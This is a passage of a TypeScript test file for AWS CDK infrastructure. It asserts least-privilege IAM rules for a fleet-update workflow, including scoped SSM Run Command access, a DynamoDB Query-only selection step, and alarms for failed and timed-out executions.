  it('sends Run Command only with the deploy document, only on instances tagged ManagedBy=stackpro, and only from the two steps that need it', () => {
    for (const stepId of ['StartCustomerUpdate', 'RollBackCustomerUpdate']) {
      const sends = fleetStepRole(stepId).filter((statement) => fleetActionsOf([statement]).includes('ssm:SendCommand'));
      expect(sends).toHaveLength(2);
      const [document, instances] = [sends.find((statement) => JSON.stringify(statement.Resource).includes(':document/')), sends.find((statement) => JSON.stringify(statement.Resource).includes(':instance/'))];
      expect(JSON.stringify(document?.Resource)).toContain('document/StackPro-DeployApplications');
      expect(document?.Condition).toBeUndefined();
      expect(instances?.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/ManagedBy': 'stackpro' } });
    }
    for (const stepId of ['SelectFleetTargets', 'CheckAppUpdate', 'FinishCustomerUpdate', 'FinishFleetUpdate']) {
      expect(fleetActionsOf(fleetStepRole(stepId))).not.toContain('ssm:SendCommand');
    }
  });

  it('selects customers by a Query of the CustomersByStatus index; no step may Scan', () => {
    const select = fleetStepRole('SelectFleetTargets');
    const query = select.find((statement) => JSON.stringify(statement.Resource).includes('/index/CustomersByStatus'));
    expect(fleetActionsOf([query!])).toEqual(['dynamodb:Query']);
    for (const stepId of Object.values(FLEET_UPDATE.steps).map((step) => step.id)) expect(fleetActionsOf(fleetStepRole(stepId))).not.toContain('dynamodb:Scan');
  });

  it('lets the start route start this state machine only, and watches its failed and timed-out executions', () => {
    const route = stack.accountApi.routeFunctions.StartFleetUpdate!;
    const statements = statementsOfRoleIn(template, stack.resolve((route.role!.node.defaultChild as CfnElement).logicalId) as string);
    const starts = statements.filter((statement) => fleetActionsOf([statement]).includes('states:StartExecution'));
    expect(starts).toHaveLength(1);
    expect(JSON.stringify(starts[0]!.Resource)).toContain('FleetUpdate');
    expect(stack.operationsMonitoring.alarms.FleetUpdateExecutionsFailedAlarm).toBeDefined();
    expect(stack.operationsMonitoring.alarms.FleetUpdateExecutionsTimedOutAlarm).toBeDefined();
  });
});

describe('where each workflow is built', () => {
  it('every workflow of the one list is built once, in the stack its definition names (deployedIn)', () => {
    const machines: Record<string, IConstruct> = {
      [PROVISION_CUSTOMER.id]: stack.provisioning.stateMachine,
      ...stack.lifecycle.stateMachines,
      [RESIZE_CUSTOMER.id]: stack.resize.stateMachine,
      [RESTORE_CUSTOMER.id]: stack.restoreWorkflow.stateMachine,
      [FLEET_UPDATE.id]: stack.fleetUpdate.stateMachine,
    };
    expect(Object.keys(machines).sort()).toEqual(WORKFLOWS.map((workflow) => workflow.id).sort());
    for (const workflow of WORKFLOWS) {
      const home = Stack.of(machines[workflow.id]!);
      expect([workflow.id, home === stack ? 'main' : home.node.id]).toEqual([workflow.id, workflow.deployedIn]);
    }
  });
});
